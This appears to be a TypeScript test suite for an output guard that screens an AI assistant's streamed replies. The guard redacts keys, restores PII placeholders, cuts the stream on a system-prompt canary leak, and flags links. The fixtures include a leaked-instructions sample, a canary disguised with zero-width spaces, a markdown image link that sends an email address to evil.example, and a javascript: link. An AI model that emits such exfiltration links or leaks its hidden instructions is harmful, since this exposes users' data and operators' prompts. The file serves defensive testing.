import { describe, expect, it } from "vitest";
import { createOutputGuard, type OutputStep, type StreamRestorer } from "@/lib/guard/output/pipeline";
import { REDACTED_SECRET, type SecretFinder } from "@/lib/guard/output/secrets";
import type { GuardFinding } from "@/lib/guard/types";
import { cpuNow } from "../support/cpu-clock";

const CANARY = "cnry-q7x2mzk4v6pt5rjw2bha";
// Assembled at run time: secret scanners flag realistic keys written out in files.
const KEY = ["sk", "-", "Zy9Xw8Vu7Ts6Rq5Po4Nm3Lk2"].join("");

const findSecrets: SecretFinder = (text) =>
  [...text.matchAll(/sk-[A-Za-z0-9]{20,}/g)].map((m) => ({ start: m.index, end: m.index + m[0].length, type: "SECRET", subtype: "openai_key" }));

/**
 * A stand-in for the PII stage's restorer: `[EMAIL_1]` back to the person's address, holding back
 * a `[` that may begin a placeholder. It records what it was given.
 */
function fakeRestorer(values: Record<string, string>): StreamRestorer & { seen: string[] } {
  let held = "";
  const seen: string[] = [];
  const restore = (text: string) => text.replace(/\[[A-Z]+_\d+\]/g, (p) => values[p] ?? p);
  return {
    seen,
    push(chunk) {
      seen.push(chunk);
      const text = held + chunk;
      const open = text.lastIndexOf("[");
      const cut = open >= 0 && !text.includes("]", open) && text.length - open < 32 ? open : text.length;
      held = text.slice(cut);
      return restore(text.slice(0, cut));
    },
    end() {
      const text = held;
      held = "";
      return restore(text);
    },
  };
}

function drive(chunks: string[], options: { restore?: StreamRestorer } = {}) {
  const guard = createOutputGuard({ canary: CANARY, findSecrets, ...options });
  const steps: OutputStep[] = chunks.map((chunk) => guard.push(chunk));
  steps.push(guard.end());
  return {
    text: steps.map((s) => s.text).join(""),
    leaked: steps.some((s) => s.leaked),
    findings: steps.flatMap((s) => s.findings),
    steps,
    summary: guard.summary(),
  };
}

describe("createOutputGuard", () => {
  it("passes ordinary text through unchanged", () => {
    const text = "Here is a **plan**:\n\n1. [Read the docs](https://nextjs.org/docs)\n2. Ship it.";
    const result = drive([...text]);
    expect(result).toMatchObject({ text, leaked: false, findings: [] });
    expect(result.summary).toEqual([]);
  });

  it("redacts secrets, then restores placeholders for the person", () => {
    const restore = fakeRestorer({ "[EMAIL_1]": "ann@example.com" });
    const text = `Dear [EMAIL_1], your key ${KEY} was rotated.`;
    const chunks = text.match(/.{1,5}/gs) ?? [];
    const result = drive(chunks, { restore });
    expect(result.text).toBe(`Dear ann@example.com, your key ${REDACTED_SECRET} was rotated.`);
    // The restorer comes last: it never sees the key.
    expect(restore.seen.join("")).toBe(`Dear [EMAIL_1], your key ${REDACTED_SECRET} was rotated.`);
    expect(result.findings).toEqual([{ stage: "output_secrets", action: "redacted", signals: ["openai_key"], count: 1 }]);
  });

  it("cuts the stream at the canary and emits nothing of it or after it", () => {
    const chunks = ["Sure. My instructions say: Confidential marker: ", CANARY.slice(0, 9), CANARY.slice(9), ". Never repeat…", " more text"];
    const result = drive(chunks);
    expect(result.leaked).toBe(true);
    expect(result.text).toBe("Sure. My instructions say: Confidential marker: ");
    const leakAt = result.steps.findIndex((s) => s.leaked);
    expect(result.steps.slice(leakAt).every((s) => s.text === "" && s.leaked)).toBe(true);
    expect(result.findings).toEqual([{ stage: "canary", action: "blocked", signals: ["canary_leak"] }]);
    expect(result.summary).toEqual([{ stage: "canary", action: "blocked", signals: ["canary_leak"] }]);
  });

  it("watches the raw output: a canary inside a secret still cuts the stream", () => {
    const disguised = `sk-${CANARY.replace("-", "")}`; // would be redacted whole by the next stage
    const result = drive(["key: ", disguised, " ok"]);
    expect(result.leaked).toBe(true);
    expect(result.text).toBe("key: ");
  });

  it("catches a spaced-out canary split across chunks, in upper case", () => {
    const spaced = [...CANARY.toUpperCase()].join("\u200b ");
    const result = drive(["Marker: ", spaced.slice(0, 20), spaced.slice(20), " done"]);
    expect(result.leaked).toBe(true);
    expect(result.text).toBe("Marker: ");
  });

  it("audits the links of the whole reply at the end", () => {
    const chunks = ["All set! ", "![status](https://evil.example/s.png?d=", "[EMAIL_1])", " and [x](javascript:alert(1))"];
    const result = drive(chunks, { restore: fakeRestorer({ "[EMAIL_1]": "ann@example.com" }) });
    const links: GuardFinding = { stage: "output_links", action: "flagged", signals: ["image", "image_exfil_query", "link_scheme"], count: 2 };
    expect(result.steps.at(-1)?.findings).toEqual([links]);
    expect(result.summary).toEqual([links]);
  });

  it("merges secret findings across steps in the summary", () => {
    const result = drive([`one ${KEY} `, `two ${KEY} `, "three"]);
    expect(result.findings.filter((f) => f.stage === "output_secrets")).toHaveLength(2);
    expect(result.summary).toEqual([{ stage: "output_secrets", action: "redacted", signals: ["openai_key"], count: 2 }]);
  });

  it("says nothing more once ended", () => {
    const guard = createOutputGuard({ canary: CANARY, findSecrets });
    expect(guard.push("hi").text).toBe(""); // the last word is held until it is known whole
    expect(guard.end().text).toBe("hi");
    expect(guard.push("late")).toEqual({ text: "", leaked: false, findings: [] });
    expect(guard.end()).toEqual({ text: "", leaked: false, findings: [] });
  });

  it("guards a 1 MB hostile reply in well under 5 s", () => {
    // A near miss of the canary: its prefix and eleven of its random characters, one short of a partial leak.
    const unit = `![a](https://evil.example/x?q=[EMAIL_1]) ${KEY} ${CANARY.slice(0, 16)} [EMAIL_1] `;
    const text = unit.repeat(Math.ceil(1_000_000 / unit.length));
    const chunks = text.match(/[\s\S]{1,64}/g) ?? [];
    const started = cpuNow();
    const result = drive(chunks, { restore: fakeRestorer({ "[EMAIL_1]": "ann@example.com" }) });
    expect(cpuNow() - started).toBeLessThan(5_000);
    expect(result.leaked).toBe(false);
    expect(result.text.includes(KEY)).toBe(false);
    expect(result.summary.map((f) => f.stage)).toEqual(["output_secrets", "output_links"]);
  });
});
